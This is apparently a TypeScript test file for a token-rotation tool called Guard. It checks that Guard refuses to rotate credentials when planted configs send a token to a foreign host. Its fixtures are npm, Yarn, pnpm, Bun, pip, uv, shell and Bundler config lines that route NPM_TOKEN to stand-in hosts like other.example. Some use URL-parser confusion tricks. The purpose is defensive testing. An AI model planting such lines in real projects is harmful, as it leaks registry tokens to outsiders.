import { expect, test } from 'vitest'
import { runGuard, sandbox, tempHome } from '../helpers/guard.ts'

/** The config that sends the variable to another host, and the line that defines the variable. */
const BESIDE: Record<string, Record<string, string>> = {
  'npm, by its key': { 'p/.npmrc': '//other.example/:_authToken=${NPM_TOKEN}\n' },
  'npm, in the path of a registry': { 'p/.npmrc': '@evil:registry=http://other.example/x/${NPM_TOKEN}/\n' },
  'npm, in the name of a host': { 'p/.npmrc': 'registry=https://${NPM_TOKEN}.other.example/\n' },
  'npm, in a member of a workspace': { 'p/packages/a/.npmrc': '//other.example/:_authToken=${NPM_TOKEN}\n' },
  'npm, in the config of the user': { '.npmrc': '//other.example/:_authToken=${NPM_TOKEN}\n' },
  Yarn: {
    'p/.yarnrc.yml':
      'npmScopes:\n  evil:\n    npmRegistryServer: https://other.example\n    npmAuthToken: "${NPM_TOKEN-}"\n',
  },
  'Yarn, in escapes': {
    'p/.yarnrc.yml': 'npmRegistries:\n  "//other.example":\n    npmAuthToken: "\\x24{NPM_TOKEN}"\n',
  },
  'Yarn, for a scope without a server': { 'p/.yarnrc.yml': 'npmScopes:\n  evil:\n    npmAuthToken: "${NPM_TOKEN}"\n' },
  pnpm: { 'p/pnpm-workspace.yaml': '_auth:\n  "https://other.example/":\n    "@":\n      authToken: ${NPM_TOKEN}\n' },
  Bun: { 'p/bunfig.toml': '[install.scopes]\nevil = { url = "https://other.example/", token = "$NPM_TOKEN" }\n' },
  'pip, in a list of requirements': {
    'p/requirements.txt': '--extra-index-url https://token:${NPM_TOKEN}@other.example/simple/\nx\n',
  },
  uv: { 'p/uv.toml': '[[index]]\nurl = "https://token:${NPM_TOKEN}@other.example/simple/"\n' },
  'a shell': { 'p/.envrc': 'export PIP_INDEX_URL="https://token:$NPM_TOKEN@other.example/simple/"\n' },
  'a shell, with a variable between them': {
    'p/.envrc': 'export OTHER=$NPM_TOKEN\n',
    'p/.npmrc': '//other.example/:_authToken=${OTHER}\n',
  },
  Bundler: { 'p/.env.local': 'BUNDLE_OTHER__EXAMPLE=token:${NPM_TOKEN}\n' },
}

test.for(Object.entries(BESIDE))(
  'a token that is sent to another host through a variable is not rotated without a flag: %s',
  async ([, files]) => {
    const services = await sandbox()
    const token = await services.issue()
    const { home, read } = tempHome({
      '.zshrc': `export GUARD_COPY=${token}\n`,
      'p/.env': `NPM_TOKEN=${token}\n`,
      ...files,
    })
    const refused = await runGuard(['rotate', '--yes'], { home, sandbox: services })
    expect(refused.code, refused.stderr).toBe(8)
    expect(refused.stderr).toMatch(/other\.example|registry\.yarnpkg\.com|tools may read differently/)
    expect(refused.stderr).toContain(Object.keys(files).at(-1)!)
    expect(read('p/.env')).toBe(`NPM_TOKEN=${token}\n`)
    expect(await services.isValid(token)).toBe(true)

    const done = await runGuard(['rotate', '--yes', '--foreign-hosts'], { home, sandbox: services })
    expect(done.code, done.stderr).toBe(0)
    expect(await services.isValid(token)).toBe(false)
  },
)

test.for<[string, (host: string) => Record<string, string>]>([
  [
    'GitHub Packages has a variable of its own',
    host => ({
      'p/.npmrc': `@acme:registry=https://npm.pkg.github.com/\n//npm.pkg.github.com/:_authToken=\${GITHUB_TOKEN}\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`,
    }),
  ],
  [
    'two projects give the variable to Guard',
    host => ({
      'p/.npmrc': `//${host}/npm/:_authToken=\${NPM_TOKEN}\n`,
      'q/.npmrc': `//${host}/npm/:_authToken=\${NPM_TOKEN}\n`,
    }),
  ],
  ['nothing names the variable', () => ({})],
  [
    'another project has a variable of the same name for another host',
    () => ({ 'q/.env': 'NPM_TOKEN=npm_theirs\n', 'q/.npmrc': '//npm.acme.example/:_authToken=${NPM_TOKEN}\n' }),
  ],
  ['a comment speaks of another host', () => ({ 'p/.npmrc': '# //other.example/:_authToken=${NPM_TOKEN}\n' })],
])('a token in a variable is rotated if %s', async ([, files]) => {
  const services = await sandbox()
  const token = await services.issue()
  const { home } = tempHome({ 'p/.env': `NPM_TOKEN=${token}\n`, ...files(services.host) })
  const { code, stderr } = await runGuard(['rotate', '--yes'], { home, sandbox: services })
  expect(code, stderr).toBe(0)
  expect(await services.isValid(token)).toBe(false)
})

test('a start-up file is rotated even if a clone elsewhere uses its variable for another host', async () => {
  const services = await sandbox()
  const token = await services.issue()
  const { home } = tempHome({
    '.zshrc': `export NPM_TOKEN=${token}\n`,
    'src/clone/.npmrc': '//npm.acme.example/:_authToken=${NPM_TOKEN}\n',
  })
  const { code, stderr } = await runGuard(['rotate', '--yes'], { home, sandbox: services })
  expect(code, stderr).toBe(0)
})

const T = (token: string, host: string) => ({ token, host })

/** Spellings that one URL parser takes for Guard's host and another for a foreign one. */
const DISAGREEING: [string, (about: ReturnType<typeof T>) => Record<string, string>][] = [
  [
    'a backslash',
    ({ token, host }) => ({
      'p/.yarnrc.yml': `npmRegistryServer: 'http://other.example\\@${host}'\nnpmAuthToken: ${token}\n`,
    }),
  ],
  [
    "a tab in YAML's escape",
    ({ token, host }) => ({
      'p/.yarnrc.yml': `npmRegistryServer: "https://${host}\\t.other.example"\nnpmAuthToken: ${token}\n`,
    }),
  ],
  [
    'a tab as it is',
    ({ token, host }) => ({
      'p/.yarnrc.yml': `npmRegistryServer: "https://${host}\t.other.example"\nnpmAuthToken: ${token}\n`,
    }),
  ],
  [
    "a line break in TOML's escape",
    ({ token, host }) => ({
      'p/bunfig.toml': `[install.registry]\nurl = "https://${host}\\n.other.example"\ntoken = "${token}"\n`,
    }),
  ],
  ['a backslash in a key', ({ token, host }) => ({ 'p/.npmrc': `//other.example\\@${host}/:_authToken=${token}\n` })],
  ['two @', ({ token, host }) => ({ 'p/.npmrc': `registry=https://${host}@token:${token}@other.example/\n` })],
  ['a token in the path', ({ token }) => ({ 'p/.npmrc': `registry=https://other.example/${token}/\n` })],
  [
    'an address within an address',
    ({ token, host }) => ({
      'p/uv.toml': `[[index]]\nurl = "https://other.example/?https://token:${token}@${host}/simple/"\n`,
    }),
  ],
  [
    'a tab before the rest of the host',
    ({ token, host }) => ({
      'p/pyproject.toml': `[[tool.uv.index]]\nurl = "https://token:${token}@${host}\\t.other.example/"\n`,
    }),
  ],
  [
    'quotes within the host',
    ({ token, host }) => ({ 'p/.envrc': `export UV_INDEX_URL="https://token:${token}@${host}"".other.example/"\n` }),
  ],
  [
    'an alias',
    ({ token, host }) => ({
      'p/.yarnrc.yml': `npmRegistries:\n  "//${host}": { npmAuthToken: &t ${token} }\n  "//other.example": { npmAuthToken: *t }\n`,
    }),
  ],
  [
    'a scope without a token',
    ({ token, host }) => ({
      'p/.yarnrc.yml': `npmRegistryServer: "http://${host}/npm/"\nnpmAuthToken: ${token}\nnpmScopes:\n  evil: { npmRegistryServer: "https://other.example" }\n`,
    }),
  ],
  [
    'a default of a placeholder',
    ({ token }) => ({
      'p/.yarnrc.yml': `npmRegistryServer: "\${SERVER:-https://other.example}"\nnpmAuthToken: ${token}\n`,
    }),
  ],
]

test.for(DISAGREEING)(
  'a planted copy of a token stays as it is if URL parsers disagree on its host: %s',
  async ([, write]) => {
    const services = await sandbox()
    const token = await services.issue()
    const planted = write(T(token, services.host))
    const { home, read } = tempHome({ '.npmrc': `//${services.host}/npm/:_authToken=${token}\n`, ...planted })
    const { code, stderr } = await runGuard(['rotate', '--yes'], { home, sandbox: services })
    expect(code, stderr).toBe(8)
    for (const [path, text] of Object.entries(planted)) expect(read(path)).toBe(text)
    expect(await services.isValid(token)).toBe(true)
  },
)
